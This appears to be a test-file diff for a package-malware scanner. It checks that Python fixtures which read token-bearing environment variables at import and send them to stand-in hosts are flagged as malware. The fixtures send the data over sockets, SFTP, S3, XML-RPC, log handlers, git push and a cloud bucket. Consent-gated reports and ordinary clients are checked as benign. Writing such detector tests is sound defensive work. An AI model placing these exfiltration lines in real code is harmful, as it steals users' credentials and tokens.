@@ -87,3 +87,134 @@ test('a user name that passes through a class, base64 and an alias is still foun
     { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 9 },
   ]);
 });
+
+const SECRETS = ['import os', '_all = {k: v for k, v in os.environ.items() if "TOKEN" in k}'];
+
+test.each([
+  [
+    'a TLS socket',
+    'import socket, ssl',
+    "raw = socket.create_connection(('intake.rates.invalid', 443))",
+    "ssl.create_default_context().wrap_socket(raw, server_hostname='intake.rates.invalid').write(repr(_all).encode())",
+  ],
+  [
+    'an asyncio stream',
+    'import asyncio',
+    'async def report():',
+    "    reader, writer = await asyncio.open_connection('intake.rates.invalid', 9001)",
+    '    writer.write(repr(_all).encode())',
+    'asyncio.run(report())',
+  ],
+  [
+    'SFTP',
+    'import io, paramiko',
+    'client = paramiko.SSHClient()',
+    "client.connect('intake.rates.invalid', username='drop', password='drop')",
+    "client.open_sftp().putfo(io.BytesIO(repr(_all).encode()), '/in/env')",
+  ],
+  [
+    'a bucket at an address of its own',
+    'import boto3',
+    "boto3.client('s3', endpoint_url='https://intake.rates.invalid').put_object(Bucket='b', Key='k', Body=repr(_all))",
+  ],
+  [
+    'a remote procedure',
+    'import xmlrpc.client',
+    "xmlrpc.client.ServerProxy('https://intake.rates.invalid').report(repr(_all))",
+  ],
+  [
+    'a log handler',
+    'import logging, logging.handlers',
+    "log = logging.getLogger('m')",
+    "log.addHandler(logging.handlers.HTTPHandler('intake.rates.invalid', '/log'))",
+    "log.warning('%r', _all)",
+  ],
+  ['a page', 'import webbrowser', "webbrowser.open('https://intake.rates.invalid/v?' + repr(_all))"],
+  [
+    'headers of a session',
+    'import requests',
+    's = requests.Session()',
+    "s.headers['X-Context'] = repr(_all)",
+    "s.get('https://intake.rates.invalid/favicon.ico')",
+  ],
+])('the environment that leaves at import by %s is malware, with its host', async (_how, ...lines) => {
+  const file = wheel({ 'pkg/__init__.py': python(...SECRETS, ...lines) });
+
+  const [finding] = await inspect('exfiltration', file);
+
+  expect(finding).toMatchObject({ class: 'malware', score: 10, context: 'import', hosts: ['intake.rates.invalid'] });
+});
+
+test('secrets written to a folder that git pushes are malware at the push', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      ...SECRETS,
+      'import subprocess, tempfile',
+      'folder = tempfile.mkdtemp()',
+      "with open(folder + '/data.txt', 'w') as stream:",
+      '    stream.write(repr(_all))',
+      "subprocess.run(['git', 'push', '-q', 'https://code.rates.invalid/drop.git', 'HEAD:main'], cwd=folder)",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10, line: 7 }]);
+});
+
+test('secrets put into a bucket of a well-known store are malware: the store says nothing about the account', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      ...SECRETS,
+      'import requests',
+      "requests.put('https://storage.googleapis.com/drop/env', data=repr(_all))",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
+
+test('a report that is sent once a person has agreed stays below quarantine', async () => {
+  const file = wheel({
+    'pkg/report.py': python(
+      'import os, requests',
+      'report = "\\n".join("%s=%s" % pair for pair in os.environ.items())',
+      "reply = input('Send the report? ')",
+      "if reply.lower().strip() in ('', 'y'):",
+      "    requests.post('https://api.github.com/gists', report)",
+    ),
+  });
+
+  const findings = await inspect('exfiltration', file);
+
+  expect(findings.every((finding) => finding.score < 5)).toBe(true);
+});
+
+test('clients for buckets, SFTP, procedures and logs that are handed their data stay silent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import logging, logging.handlers, xmlrpc.client',
+      'import boto3, paramiko',
+      '',
+      'class Store:',
+      '    def __init__(self, endpoint, bucket):',
+      "        self.client = boto3.client('s3', endpoint_url=endpoint)",
+      '        self.bucket = bucket',
+      '    def put(self, key, path):',
+      '        self.client.upload_file(path, self.bucket, key)',
+      '',
+      'class Sync:',
+      '    def __init__(self, host, user, key_filename):',
+      '        self.ssh = paramiko.SSHClient()',
+      '        self.ssh.connect(host, username=user, key_filename=key_filename)',
+      '    def push(self, local, remote):',
+      '        self.ssh.open_sftp().put(local, remote)',
+      '',
+      'def releases(name):',
+      "    return xmlrpc.client.ServerProxy('https://pypi.org/pypi').package_releases(name)",
+      '',
+      'def log_to(host):',
+      "    logging.getLogger('pkg').addHandler(logging.handlers.HTTPHandler(host, '/log'))",
+    ),
+  });
+
+  expect((await inspect('exfiltration', file)).filter((finding) => finding.score > 1)).toEqual([]);
+});
